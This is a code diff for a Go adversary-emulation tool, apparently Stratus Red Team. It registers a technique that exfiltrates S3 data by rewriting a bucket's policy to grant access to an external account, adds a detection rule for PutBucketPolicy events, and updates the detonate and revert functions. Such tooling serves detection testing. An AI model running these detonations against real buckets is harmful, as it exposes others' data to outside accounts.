@@ -18,11 +18,19 @@ var backdooredPolicy string
 
 func init() {
 	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
-		ID:                 "aws.exfiltration.s3-backdoor-bucket-policy",
-		FriendlyName:       "Backdoor an S3 Bucket via its Bucket Policy",
-		Platform:           stratus.AWS,
-		IsIdempotent:       true,
-		MitreAttackTactics: []mitreattack.Tactic{mitreattack.Exfiltration},
+		ID:                    "aws.exfiltration.s3-backdoor-bucket-policy",
+		FriendlyName:          "Backdoor an S3 Bucket via its Bucket Policy",
+		Platform:              stratus.AWS,
+		IsIdempotent:          true,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Exfiltration},
+		MitreAttackTechniques: []string{"T1537"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"eventSource": {"s3.amazonaws.com"}, "eventName": {"PutBucketPolicy"}},
+			},
+			Level:          stratus.DetectionLevelLow,
+			FalsePositives: []string{"Administrators updating bucket policies"},
+		},
 		Description: `
 Exfiltrates data from an S3 bucket by backdooring its Bucket Policy to allow access from an external, fictitious AWS account.
 
@@ -50,18 +58,18 @@ if the S3 bucket was made public (and not only shared with an attacker-controlle
 which generates a finding when an S3 bucket is made public or accessible from another account.
 `,
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
-		Revert:                     revert,
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	s3Client := s3.NewFromConfig(providers.AWS().GetConnection())
 	bucketName := params["bucket_name"]
 	policy := fmt.Sprintf(backdooredPolicy, bucketName, bucketName)
 
 	log.Println("Backdooring bucket policy of " + bucketName)
-	_, err := s3Client.PutBucketPolicy(context.Background(), &s3.PutBucketPolicyInput{
+	_, err := s3Client.PutBucketPolicy(ctx, &s3.PutBucketPolicyInput{
 		Bucket: &bucketName,
 		Policy: &policy,
 	})
@@ -69,12 +77,12 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return err
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	s3Client := s3.NewFromConfig(providers.AWS().GetConnection())
 	bucketName := params["bucket_name"]
 
 	log.Println("Removing malicious bucket policy on " + bucketName)
-	_, err := s3Client.DeleteBucketPolicy(context.Background(), &s3.DeleteBucketPolicyInput{
+	_, err := s3Client.DeleteBucketPolicy(ctx, &s3.DeleteBucketPolicyInput{
 		Bucket: &bucketName,
 	})
 